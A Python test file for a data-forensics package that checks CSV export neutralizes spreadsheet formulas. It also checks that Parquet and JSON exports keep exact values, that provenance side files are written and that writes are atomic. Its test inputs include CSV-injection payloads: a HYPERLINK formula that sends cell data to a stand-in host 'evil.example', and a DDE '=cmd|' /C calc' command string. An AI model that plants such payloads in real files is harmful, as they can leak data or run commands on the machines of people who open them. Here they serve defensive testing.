"""Exports and atomic writes: formula-neutralized CSV, exact Parquet and JSON, provenance side files."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import forensics
from forensics import _io
from forensics.errors import InputError
from forensics.export import (
    export_table,
    meta_path,
    needs_neutralizing,
    neutralize_cell,
    restore_cell,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1", "\r=1",
           " =1+1", "\u00a0=1", "\u200b=1", "\uff1d1+1", "'quoted", '","=1']


@pytest.mark.parametrize("cell", HOSTILE[:-1])
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralize_cell(cell) == "'" + cell
    assert restore_cell(neutralize_cell(cell)) == cell


@pytest.mark.parametrize("cell", ["", "ok", "1.5", "a=b", "e-mail", "x+y", "sample_001", '","=1'])
def test_plain_cells_are_unchanged(cell):
    assert neutralize_cell(cell) == cell
    assert restore_cell(cell) == cell


@given(st.text(max_size=12))
def test_neutralizing_is_exactly_undone_and_leaves_no_formula(cell):
    out = neutralize_cell(cell)
    assert restore_cell(out) == cell
    # What a spreadsheet sees first, even after trimming spaces, is never a formula start.
    assert out == "" or out[0] == "'" or (out[0] not in "=+-@\t\r\n\x00" and out.strip()[:1] not in set("=+-@"))


@pytest.fixture
def hostile_frame():
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "source": HOSTILE[::-1],
            "reasons": ["high loss"] * (n - 1) + ["-2+3"],
            "suspicion": np.linspace(1.0, -1.0, n),  # negative numbers stay numbers
            "count": np.arange(n, dtype=np.int64) - 3,
            "mixed": [1, "=1", None, 2.5] + ["x"] * (n - 4),
        },
        index=pd.Index(HOSTILE, name="sample_id"),
    )


def read_csv_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_neutralizes_every_text_cell_and_keeps_numbers(tmp_path, hostile_frame):
    path = export_table(hostile_frame, tmp_path / "out.csv")
    rows = read_csv_rows(path)
    assert rows[0] == ["sample_id", "source", "reasons", "suspicion", "count", "mixed"]
    body = rows[1:]
    assert len(body) == len(HOSTILE) and all(len(r) == 6 for r in body)  # no value opened a new cell
    assert [r[0] for r in body] == [neutralize_cell(s) for s in HOSTILE]
    assert [r[1] for r in body] == [neutralize_cell(s) for s in HOSTILE[::-1]]
    assert body[-1][2] == "'-2+3" and body[0][2] == "high loss"
    assert [restore_cell(r[0]) for r in body] == HOSTILE  # the ids can be recovered exactly
    assert [float(r[3]) for r in body] == pytest.approx(np.linspace(1.0, -1.0, len(HOSTILE)))
    assert [int(r[4]) for r in body] == list(range(-3, len(HOSTILE) - 3))
    assert [r[5] for r in body[:4]] == ["1", "'=1", "", "2.5"]
    # Read as a spreadsheet would: unquoted fields are numbers, every text field is quoted.
    with open(path, newline="", encoding="utf-8") as f:
        typed = list(csv.reader(f, quoting=csv.QUOTE_NONNUMERIC))[1:]
    assert all(isinstance(r[3], float) and isinstance(r[4], float) for r in typed)
    assert all(isinstance(r[0], str) and isinstance(r[1], str) for r in typed)
    for r in body:
        for cell in (r[0], r[1], r[2], r[5]):
            assert not needs_neutralizing(cell) or cell.startswith("'")


def test_csv_header_names_are_neutralized(tmp_path):
    df = pd.DataFrame({"=cmd|' /C calc'!A0": ["a"], "score": [1.0]})
    rows = read_csv_rows(export_table(df, tmp_path / "x.csv"))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "score"]
    assert rows[1] == ["a", "1.0"]  # a default row-number index is not written


def test_categories_and_time_spans_are_text(tmp_path):
    df = pd.DataFrame({"c": pd.Categorical(["-a", "b"]), "t": pd.to_timedelta([-1, 1], unit="D"),
                       "d": pd.to_datetime(["2024-01-02", "2024-01-03"], utc=True)})
    rows = read_csv_rows(export_table(df, tmp_path / "x.csv"))
    assert rows[1][0] == "'-a" and rows[1][1].startswith("'-1 days") and rows[1][2].startswith("2024-01-02")


def test_parquet_and_json_keep_exact_values(tmp_path, hostile_frame):
    p = export_table(hostile_frame.drop(columns="mixed"), tmp_path / "out.parquet")
    back = pd.read_parquet(p)
    assert back["sample_id"].tolist() == HOSTILE and back["source"].tolist() == HOSTILE[::-1]
    assert back["suspicion"].dtype == np.float64 and back["count"].dtype == np.int64
    j = export_table(hostile_frame, tmp_path / "out.json")
    records = json.loads(j.read_text(encoding="utf-8"))
    assert [r["sample_id"] for r in records] == HOSTILE
    assert records[2]["mixed"] is None and records[0]["suspicion"] == 1.0


def test_format_argument_and_extension(tmp_path, hostile_frame):
    p = export_table(hostile_frame, tmp_path / "list.txt", format="csv")
    assert read_csv_rows(p)[0][0] == "sample_id"
    with pytest.raises(InputError, match=r"cannot tell the format of .*list\.xlsx.*\.csv, \.parquet or \.json"):
        export_table(hostile_frame, tmp_path / "list.xlsx")
    with pytest.raises(InputError, match=r"format must be one of \['csv', 'parquet', 'json'\] or None; got 'xls'"):
        export_table(hostile_frame, tmp_path / "list.csv", format="xls")
    with pytest.raises(InputError, match="df must be a pandas DataFrame; got list"):
        export_table([1, 2], tmp_path / "list.csv")


def test_side_file_records_provenance(tmp_path, hostile_frame):
    path = export_table(hostile_frame, tmp_path / "out.csv", meta={"layer": "fc1", "parameters": {"k": np.int64(5)}})
    side = json.loads(meta_path(path).read_text())
    assert meta_path(path).name == "out.csv.meta.json"
    assert side["version"] == forensics.__version__
    assert side["rows"] == len(HOSTILE) and side["format"] == "csv" and side["csv_formula_neutralized"] is True
    assert side["meta"] == {"layer": "fc1", "parameters": {"k": 5}}
    assert side["blake2b"] == _io.file_digest(path)
    assert side["created"].endswith("+00:00")
    with pytest.raises(InputError, match="meta must hold only JSON values"):
        export_table(hostile_frame, tmp_path / "bad.csv", meta={"x": object()})
    assert not (tmp_path / "bad.csv").exists()


def test_unwritable_paths_are_input_errors(tmp_path, hostile_frame, monkeypatch):
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    with pytest.raises(InputError, match=r"cannot write the export .*file\.txt/out\.csv: its folder .* does not "
                                         r"exist"):
        export_table(hostile_frame, a_file / "out.csv")
    with pytest.raises(InputError, match=r"cannot write the export .*missing/out\.csv: its folder"):
        export_table(hostile_frame, tmp_path / "missing" / "out.csv")
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(InputError, match=r"cannot write the export .*dir\.csv: it is a folder"):
        export_table(hostile_frame, tmp_path / "dir.csv")

    def denied(path, writer):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(_io, "atomic_write_with", denied)
    with pytest.raises(InputError, match=r"cannot write the export .*locked\.csv: Permission denied"):
        export_table(hostile_frame, tmp_path / "locked.csv")


def test_a_failed_export_leaves_the_previous_file(tmp_path, hostile_frame, monkeypatch):
    path = export_table(hostile_frame, tmp_path / "out.csv")
    before = path.read_bytes()

    def half_then_fail(self, target, *args, **kwargs):
        Path(target).write_text("sample_id\n'=half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_fail)
    with pytest.raises(OSError, match="No space left"):
        export_table(hostile_frame.iloc[:2], path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "out.csv.meta.json"]  # no temporary file


def test_atomic_writes(tmp_path):
    target = tmp_path / "a.npy"
    digest = _io.atomic_write_with(target, lambda tmp: np.save(tmp, np.arange(3)))  # np.save keeps a .npy name
    assert np.load(target).tolist() == [0, 1, 2] and digest == _io.file_digest(target)
    assert _io.atomic_write_text(tmp_path / "t.txt", "h\u00e9") == _io.bytes_digest("h\u00e9".encode())
    assert (tmp_path / "t.txt").read_text(encoding="utf-8") == "h\u00e9"
    old = os.umask(0o022)
    try:
        _io.atomic_write_bytes(tmp_path / "b.bin", b"x")
    finally:
        os.umask(old)
    assert (tmp_path / "b.bin").stat().st_mode & 0o777 == 0o644  # an ordinary file, readable downstream

    def boom(tmp):
        Path(tmp).write_bytes(b"partial")
        raise RuntimeError("writer failed")

    with pytest.raises(RuntimeError, match="writer failed"):
        _io.atomic_write_with(target, boom)
    assert np.load(target).tolist() == [0, 1, 2]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.npy", "b.bin", "t.txt"]
